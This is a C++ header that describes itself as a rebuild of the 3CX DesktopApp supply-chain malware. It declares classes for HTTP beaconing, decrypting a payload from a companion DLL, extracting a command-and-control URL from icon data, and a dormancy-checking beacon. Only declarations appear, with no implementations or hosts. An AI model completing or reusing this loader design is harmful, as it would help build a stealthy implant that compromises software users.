// Rebuild of the 3CX DesktopApp supply-chain loader (ffmpeg.dll -> d3dcompiler -> ICONIC).
#pragma once
#include <array>
#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <vector>

namespace dtapp {

using Bytes = std::vector<std::uint8_t>;

class Http {
public:
  explicit Http(std::string user_agent);
  std::optional<std::string> get(const std::string &url) const;
  bool post(const std::string &url, std::span<const std::uint8_t> body) const;
private:
  std::string ua_;
};

class Loader {
public:
  explicit Loader(std::string companion_path);
  std::optional<Bytes> extract_payload() const;
private:
  Bytes decrypt(std::span<const std::uint8_t> blob) const;
  std::string path_;
};

class IconStore {
public:
  explicit IconStore(const Http &http);
  std::optional<std::string> c2_url();
private:
  std::optional<std::string> open_icon(const std::string &raw) const;
  const Http &http_;
};

class Beacon {
public:
  Beacon(const Http &http, std::string manifest);
  bool dormant() const;
  void run(IconStore &icons);
private:
  void report(const std::string &url);
  const Http &http_;
  std::string manifest_;
};

std::optional<Bytes> b64decode(std::string_view in);

} // namespace dtapp
